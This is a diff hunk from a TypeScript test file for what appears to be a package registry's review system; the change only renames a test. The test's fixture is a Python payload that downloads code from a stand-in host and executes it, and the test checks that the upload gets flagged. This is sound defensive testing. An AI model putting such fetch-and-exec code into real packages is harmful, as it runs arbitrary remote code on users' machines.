@@ -73,7 +73,7 @@ test('a withdrawn version can be banned, and so can one of a withdrawn node', as
 const findingsIn = (version: object): Record<string, unknown>[] =>
   'findings' in version ? (version.findings as Record<string, unknown>[]) : []
 
-test('an owner reads the decision on a review, and what it is about: a refusal, then a ban', async () => {
+test('an owner reads the decision on a review, and what it is about: no release, then a ban', async () => {
   const evil = `import requests\nexec(requests.get("https://x.example/${unique('x')}").text)\n`
   const sent = await send(packOf(unique('Evil'), { 'evil.py': evil }))
   assert.equal(sent.status, FLAGGED)
